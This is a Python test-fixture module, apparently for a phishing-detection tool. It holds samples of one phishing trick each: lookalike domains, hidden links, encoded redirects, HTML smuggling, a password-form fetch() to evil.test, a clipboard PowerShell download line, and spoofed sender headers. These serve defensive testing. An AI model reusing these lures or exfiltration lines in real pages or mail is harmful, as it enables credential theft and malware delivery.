"""Pages and messages with one trick each, and files of most kinds, for the golden tests."""

import base64

from tests.documents.compound_files import (
    attached,
    compound,
    outlook_tree,
    plain_rtf,
    tnef,
    tnef_attachment,
)
from tests.documents.samples import pdf_file, picture, zipped

EVIL = "http://evil.test/x"
BANK = "https://www.paypal.com/"
CODE = base64.b64encode(f"location='{EVIL}'".encode()).decode()
CODED = base64.b64encode(EVIL.encode()).decode()
PASSWORD = "<input type=password>"
PAGES = {
    "shown": f"<a href={EVIL}>{BANK}</a><a href={EVIL}>www.paypal.com.evil.test</a>",
    "shown-alike": "<a href=https://paypa1.test/>paypal.com</a><a href=//a.test>PayPal</a>",
    "base": f"<base href={EVIL}/><a href=next>Sign in</a><form action=go>{PASSWORD}</form>",
    "base-twice": "<base href=/one/><base href=/two/><a href=x>x</a><a href='#s'>s</a>",
    "form": f"<form action={EVIL}>{PASSWORD}</form><form action=mailto:a@b.test>",
    "form-http": "<form action=http://page.test/in>" + PASSWORD,
    "form-button": f"<form action=/own>{PASSWORD}<button formaction={EVIL}>Go</button></form>",
    "form-itself": f"<form id=f action={EVIL}></form><script>f.submit()</script>",
    "mixed": "<a href=https://p\u0430ypal.test/>x</a><a href=https://paypal.com.evil.test/>y</a>",
    "refresh": f"<meta http-equiv=refresh content='0; url={EVIL}'>",
    "refresh-late": f"<meta http-equiv=refresh content='600;{EVIL}'>",
    "ping": f"<a href=/here ping='{EVIL} /own'>x</a>",
    "svg": f"<svg><a xlink:href={EVIL}><text>{BANK}</text></a></svg><svg><use href=#a /></svg>",
    "click": f"<a href={BANK} onclick=\"location='{EVIL}'\">Sign in</a>",
    "load": f"<body onload=\"location.href='{EVIL}'\">",
    "open": f"<button onclick=\"window.open('{EVIL}')\">Help</button>",
    "sends": f"{PASSWORD}<script>fetch('{EVIL}',{{method:'POST'}})</script>",
    "frame": f"<iframe src={EVIL} width=100% height=100%></iframe>",
    "script-link": '<a href="javascript:document.forms[0].submit()">x</a><form action=/x>',
    "script-link-on": f"<a href=\"javascript:location='{EVIL}'\">x</a>",
    "entities": "<a href='&#104;&#116;&#116;&#112;://evil.test/'>x</a>"
    "<a href='j&#x61;vascript:x()'>",
    "hidden": f"<a href={EVIL} style='display:none'>x</a><a href={EVIL} style='font-size:0'>y</a>",
    "hidden-around": f"<div style='opacity:0'><a href={EVIL}>x</a></div><a href={EVIL}></a>",
    "spaces": f"<a href=' {EVIL} '>x</a><a href='ht\ntp://evil.test/'>y</a>",
    "coded": f"<script>eval(atob('{CODE}'))</script>",
    "coded-more": "<script>location=String.fromCharCode(104,116,116,112,58,47,47,97)</script>",
    "smuggled": "<a download='a.exe' href='data:application/zip;base64,UEsDBA=='>x</a>"
    "<script>new Blob([atob('UEsDBA==')]);x.download='invoice.zip';x.click()</script>",
    "copied": "<script>navigator.clipboard.writeText('powershell -w hidden -c iwr x')</script>",
    "application": '<script language=VBScript>CreateObject("WScript.Shell").Run "x"</script>',
    "data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "userinfo": f"<a href=https://paypal.com@evil.test/>{BANK}</a>",
    "lists": f"<img srcset='/a.png 1x, {EVIL} 2x' src=''><link imagesrcset='/b 1x,/c 2x'>",
    "style": f"<style>@import '{EVIL}'; p {{ background: url( /a.png ) }}</style>"
    '<p style="x:url(b)">',
    "srcdoc": f"<iframe srcdoc=\"<a href='{EVIL}'>{BANK}</a>\"></iframe>",
    "code": f"<script>// {EVIL}\nx = '{EVIL}?a';</script><!-- {EVIL}?b -->",
    "own": "<a href=http://page.test:80/../a%7eb>x</a><a href=//page.test/>y</a>"
    "<a href=tel:1>z</a>",
    "redirects": f"<a href=https://t.co/x>{BANK}</a><a href={EVIL} title={BANK}>x</a>"
    "<a href=mailto:a@evil.test>help@paypal.com</a>",
    "xml": f"<svg xml:base={EVIL}><a xlink:href=a>x</a></svg><p xml:base={EVIL}><a href=b>x</a>",
    "form-plain": f"<form action={EVIL}><input name=q></form>",
    "handler": f"<p onmouseover=\"x('{EVIL}')\">a</p><a href=/a onclick=\"y='{EVIL}'\">b</a>",
    "script-opens": f"<a href=\"javascript:window.open('{EVIL}')\">x</a>",
    "script-rewrites": f"<a href=\"javascript:document.links[0].href='{EVIL}'\">x</a>",
    "script-loads": f"<a href=\"javascript:s=document.createElement('script');"
    f"s.src='{EVIL}';document.body.appendChild(s)\">x</a>",
    "script-sends": f"<a href=\"javascript:fetch('{EVIL}')\">x</a>",
    "script-hides": "<a href=\"javascript:eval(atob('YQ=='))\">x</a>",
    "pieces": f"<a href={EVIL}>pay<i></i>pal<!-- -->.c&#8203;om</a>"
    f"<a href={EVIL}>p<span style='display:none'>x</span>aypal.com</a>",
    "hidden-text": f"<a href={EVIL}><span style='display:none'>x</span></a>",
    "base-spelled": f"<base href={EVIL}/><a href='www.paypal.com/x'>x</a>",
    "coded-move": f"<script>location=atob('{CODED}')</script>",
    "script-writes": "<a href=\"javascript:document.write('<form>')\">x</a>",
}
HEAD = "From: A <a@a.test>\nTo: b@b.test\nSubject: x\nDate: Sat, 21 Nov 2026 01:10:00 +0100\n"


def mail(header: str, body: str = f"<a href={EVIL}>x</a>", kind: str = "text/html") -> str:
    """Return a message with the given fields, which replace the default ones."""
    names = {line.partition(":")[0] for line in header.split("\n")}
    usual = (line for line in HEAD.splitlines() if line.partition(":")[0] not in names)
    lines = "\n".join([*usual, *filter(None, [header])])
    return f"{lines}\nContent-Type: {kind}; charset=utf-8\n\n{body}\n"


BOTH = (
    "--b\nContent-Type: text/plain\n\nsee https://one.test/a\n--b\nContent-Type: text/html\n\n"
    "<a href=https://two.test/>x</a>\n--b--"
)
FAILED = "Authentication-Results: mx.b.test; spf=fail smtp.mailfrom=a.test; dkim=none; dmarc=fail"
PASSED = "Authentication-Results: mx.b.test; spf=pass smtp.mailfrom=a.test; dkim=pass; dmarc=pass"
# "PayPal" in mathematical bold letters.
STYLED = "".join(chr(0x1D5D4 + ord(each) - ord("A") - 6 * each.islower()) for each in "PayPal")
MAILS = {
    "plain": mail(""),
    "name-address": mail('From: "service@paypal.com" <x@evil.test>'),
    "name-domain": mail("From: www.paypal.com <x@evil.test>"),
    "name-known": mail("From: PayPal Service <x@evil.test>"),
    "name-free": mail("From: PayPal <service.desk@gmail.com>"),
    "name-disguised": mail("From: =?utf-8?q?P=D0=B0yPal?= <x@evil.test>"),
    "name-failed": mail("From: PayPal <x@evil.test>\n" + FAILED),
    "name-nobody": mail("From: PayPal"),
    "own": mail("From: PayPal <service@paypal.com>\n" + PASSED, f"<a href={BANK}>x</a>"),
    "domain": mail("From: A <a@paypa1.com>"),
    "domain-none": mail("From: A <a@intranet.invalid>"),
    "domain-odd": mail("From: A <a@[192.0.2.1]>"),
    "reply": mail("Reply-To: other@evil.test"),
    "reply-free": mail("From: A <a@paypal.com>\nReply-To: a.paypal@gmail.com"),
    "repeated": mail("From: a@a.test\nFrom: b@evil.test\nSubject: one\nSubject: two"),
    "several": mail("From: a@a.test, b@evil.test"),
    "several-sender": mail("From: a@a.test, b@b.test\nSender: c@c.test"),
    "failed": mail(FAILED),
    "failed-all": mail(
        "From: A <a@paypal.com>\nAuthentication-Results: mx.b.test; spf=fail smtp.mailfrom=a.test;"
        " dkim=fail header.d=a.test; dmarc=fail header.from=a.test; compauth=fail"
    ),
    "dmarc-alone": mail("Authentication-Results: mx.b.test; dmarc=pass; spf=softfail; dkim=none"),
    "alike-sender": mail(
        "From: A <a@some-company.test>",
        "<a href=https://s\u043ememany.test/>x</a>"
        "<a href=https://some-cornpany.test/>y</a><a href=https://some-company.test.evil.test/>z</a>",
    ),
    "unsigned": mail("Authentication-Results: mx.b.test; dkim=none; spf=none"),
    "lure": mail(
        "Subject: Your account will be suspended within 24 hours",
        f"<p>Verify your password now: <a href={EVIL}>Click here</a>",
    ),
    "lure-german": mail(
        "Subject: Ihr Konto wurde gesperrt", f"<a href={EVIL}>Jetzt bestätigen</a>"
    ),
    "unrelated": mail("From: A <a@paypal.com>", f"<a href={EVIL}>x</a>" * 3),
    "subject": mail("Subject: P=?utf-8?b?4oCu?= In\u200bvoice"),
    "userinfo": mail("", "<a href=https://bob@a.test/>x</a>"),
    "two-bodies": mail("", BOTH, "multipart/alternative; boundary=b").replace(
        "; charset=utf-8", ""
    ),
    "text": mail("", "see https://evil.test/a-\nb and <https://a.test/> www.c.test.", "text/plain"),
    "attached": mail(
        "MIME-Version: 1.0",
        '--b\nContent-Type: application/zip; name="invoice.pdf.exe"\n\nx\n'
        "--b\nContent-Type: text/plain\n"
        'Content-Disposition: attachment; filename="a\u202etxt.js"\n\n'
        "x\n--b\nContent-Type: message/rfc822\n\nFrom: PayPal <c@evil.test>\n\nhttp://d.test/\n--b--",
        "multipart/mixed; boundary=b",
    ).replace("; charset=utf-8", ""),
    "sender-open": mail(
        "From: Shop <x@a-1.firebaseapp.com>\nSubject: You have won\n"
        + PASSED.replace("a.test", "a-1.firebaseapp.com")
    ),
    "listed-name": mail("From: PayPal Service, a@evil.test"),
    "styled": mail(f"Subject: {STYLED}"),
    "runs": mail(
        "MIME-Version: 1.0",
        '--b\nContent-Type: text/plain; name="a.js"\n\nx\n--b\n'
        'Content-Type: application/octet-stream; name="a.lnk"\n\nx\n--b--',
        "multipart/mixed; boundary=b",
    ).replace("; charset=utf-8", ""),
    "moves": mail(
        "", f"<meta http-equiv=refresh content='0;url={EVIL}'><a href=https://x.test/>y</a>"
    ),
    "based": mail(f"Content-Base: {EVIL}/", "<a href=next>x</a>"),
    "sender-no-domain": mail("From: A <x@correios>\nSubject: Encomenda retida"),
    "reply-anyone": mail("From: PayPal <a@shop.test>\nReply-To: bob@gmail.com"),
    "based-inside.eml": mail("", f"<base href={EVIL}/><a href=next>x</a><a href='#x'>y</a>"),
    "known-name": mail("", f"<a href={EVIL}>Sign in to PayPal</a><a href={EVIL}>PayPal</a>"),
}
RTF = (
    rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0\fcharset0 A;}{\f1\fcharset204 B;}}"
    rb'{\field{\*\fldinst HYPERLINK "http://a.test/" \\l "p"}{\fldrslt \f1 \'ef www.b.test}}'
    rb"{\*\template http://t.test/a.dotm} see http://c.test/.}"
)
TEXTS: dict[int, str | bytes] = {
    0x0037: "Invoice",
    0x0C1A: "PayPal",
    0x5D01: "x@evil.test",
    0x1035: "<1@a.test>",
    0x1000: "see http://a.test/1 now",
    0x1013: b"<a href=http://a.test/2>x</a>",
    0x1009: plain_rtf(RTF),
}
FILES = {
    "page.html": PAGES["shown"].encode("utf-16"),
    "all.zip": zipped({"a.html": PAGES["form"].encode(), "deep/b.zip": zipped({"c.txt": b"http://c.test/"})}),
    "letter.rtf": RTF,
    "mail.msg": compound(outlook_tree(TEXTS, (attached({0x3707: "a.pdf.exe", 0x3701: b"MZ"}),))),
    "winmail.dat": tnef(TEXTS, tnef_attachment("b.html", b"<a href=http://t.test/>x</a>", {})),
    "paper.pdf": pdf_file("http://p.test/a", "http://p.test/(b)"),
    "code.png": picture(),
    "dates.ics": b"BEGIN:VCALENDAR\nURL:http://i.test/\nDESCRIPTION:see http://i.test/\n more\n",
    "card.vcf": b"BEGIN:VCARD\nURL;TYPE=home:http://v.test/\nPHOTO;VALUE=uri:http://v.test/p\n",
    "go.url": b"[InternetShortcut]\nURL=http://u.test/\nIconFile=\\\\host\\share\\i.ico\n",
    "look.css": b"@import 'http://s.test/'; a { b: url(c.png) }",
    "home.html": f"<!doctype html><base href={EVIL}/><a href=next>x</a><a href='#x'>y</a>".encode(),
    "app.hta": b"<hta:application id=x><a href=http://a.test/>x</a>",
    "notes.txt": b"http://n.test/, www.m.test and mail to x@o.test\n(http://q.test/a_(b))",
}  # fmt: skip
# Samples for the JSON of messages and envelopes, with a full delivery path.
TRAVELLED = mail(
    "Return-Path: <bounce@a.test>\n"
    "Received: from a.test (mail.a.test [192.0.2.1]) by mx.b.test with ESMTPS id 1;"
    " Sat, 21 Nov 2026 01:12:00 +0100\n"
    "Received: from [10.0.0.1] by a.test with HTTP; Sat, 21 Nov 2026 01:11:00 +0100\n"
    "Received-SPF: pass (mx.b.test: 192.0.2.1 is allowed) client-ip=192.0.2.1\n"
    "ARC-Authentication-Results: i=1; mx.b.test; dkim=pass header.d=a.test\n"
    f"{PASSED}\nMessage-ID: <1@a.test>\nReply-To: C <c@a.test>\nSender: d@a.test\n"
    "Cc: e@b.test, F <f@b.test>\nSubject: one\nSubject: two\n"
    "List-Unsubscribe: <https://a.test/u>, <mailto:u@a.test>"
)
JSON = {name: MAILS[name] for name in ("name-known", "attached", "two-bodies", "failed")}
JSON |= {"travelled": TRAVELLED, "page.html": PAGES["base"], "style.html": PAGES["style"]}
SITE: dict[str, str | bytes] = {
    "index.html": "<base href=/docs/><h1 id=a>A</h1><a href=OTHER.html>x</a><a href=gone.html>y</a>"
    "<a href=other>z</a><a href=other.html#b>b</a><a href=other.html#A>c</a><img src=i.PNG>"
    "<a href=folder/>f</a><a href=../up.html>u</a><a href=https://www.site.test/docs/other.html>o"
    "</a><a href=http://www.site.test/x>p</a><a href=http://else.test/>q</a>"
    "<a href=https://else.test/>r</a><a href=other.html/>s</a><a href='100%25.txt'>t</a>"
    "<a href='q?x=1'>v</a><a href=a%2fb>w</a><a href=file:///c/d>n</a><a href='#a'>m</a>"
    "<a href='#nowhere'>l</a><a href=deep/../../other.html>k</a><a href=deep/page.html>j</a>",
    "other.html": "<p id=a><p id=a><p id=b><p id=b><a href=index.html>x</a><a name=c></a>",
    "ids.html": "".join(f"<p id=n{at}><p id=n{at}>" for at in range(25)),
    "deep/page.html": "<a href=other.html>x</a><a href=../other.html>y</a><a href=style.css>z</a>",
    "top.html": "<a href=../other.html>x</a><a href=../../gone.html>y</a>",
    "deep/more.html": "<img src=i.png><a href=../../../other.html>y</a>",
    "404.html": "<a href=other.html>x</a><link rel=stylesheet href=/docs/deep/style.css>",
    "lonely.html": "<p>nothing",
    "deep/style.css": "a { background: url(i.png) } @import 'gone.css';",
    "i.png": b"", "folder/readme.txt": "no index", "100%25.txt": "", "q?x=1": "",
}  # fmt: skip
